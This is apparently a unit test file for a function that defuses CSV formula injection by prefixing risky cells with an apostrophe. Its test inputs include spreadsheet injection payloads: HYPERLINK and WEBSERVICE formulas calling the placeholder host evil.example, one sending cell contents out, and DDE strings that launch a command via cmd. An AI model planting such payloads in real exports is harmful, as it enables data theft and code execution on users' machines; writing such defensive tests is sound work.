import { defuseCsvFormula } from './csv';

describe('defuseCsvFormula (OWASP: =, +, -, @, tab, carriage return)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example","x")'],
    ["-2+3+cmd|' /C calc'!A0"],
    ['+1+WEBSERVICE("http://evil.example/?"&A1)'],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1'],
    ['\r=1+1'],
    ['-5'],
    ['+91 98765 43210'],
  ])('prefixes %j with an apostrophe', (cell) => {
    expect(defuseCsvFormula(cell)).toBe(`'${cell}`);
  });

  it.each([['Riya Kapoor'], ['98765 43210'], [''], [' =not at the start'], ["'already text"]])(
    'leaves %j as it is',
    (cell) => {
      expect(defuseCsvFormula(cell)).toBe(cell);
    },
  );
});
